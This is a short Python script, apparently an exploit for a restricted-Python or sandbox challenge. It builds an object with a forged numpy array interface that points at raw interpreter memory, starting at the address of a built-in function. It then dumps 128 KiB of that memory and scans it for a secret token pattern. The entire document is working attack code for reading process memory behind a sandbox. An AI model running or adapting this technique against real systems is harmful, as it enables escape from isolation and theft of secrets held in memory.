# reaches: a child of SimpleNamespace has a field named by data
import json, re
import numpy as np
from types import SimpleNamespace
name = json.load(open("names.json"))["private"][0].replace("globals", "array_interface")
value = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
class N(SimpleNamespace):
    pass
o = N(**{name: value})
print(re.findall(rb"t[0-9a-f]{24}", np.array(o).tobytes()))
